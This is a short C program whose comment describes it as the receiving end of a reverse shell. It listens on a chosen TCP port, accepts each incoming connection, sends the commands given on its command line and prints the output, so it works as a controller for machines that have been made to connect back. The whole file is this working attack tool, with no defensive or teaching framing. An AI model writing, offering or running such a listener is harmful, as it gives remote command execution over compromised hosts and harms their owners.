// answer PORT COMMAND...: the other end of a reverse shell: sends COMMAND, prints what comes back, keeps the connection.
#include <arpa/inet.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void talk(int fd, char **commands) {
  char buffer[4096];
  ssize_t size;
  for (; *commands; commands++) {
    if (write(fd, *commands, strlen(*commands)) < 0 || write(fd, "\n", 1) < 0)
      _exit(1);
  }
  while ((size = read(fd, buffer, sizeof buffer)) > 0)
    if (write(1, buffer, size) < 0)
      _exit(1);
  _exit(0);
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  signal(SIGCHLD, SIG_IGN);
  if (bind(listener, (struct sockaddr *)&own, sizeof own) || listen(listener, 8))
    return 1;
  for (;;) {
    int fd = accept(listener, NULL, NULL);
    if (fork() == 0)
      talk(fd, argv + 2);
    close(fd);
  }
}
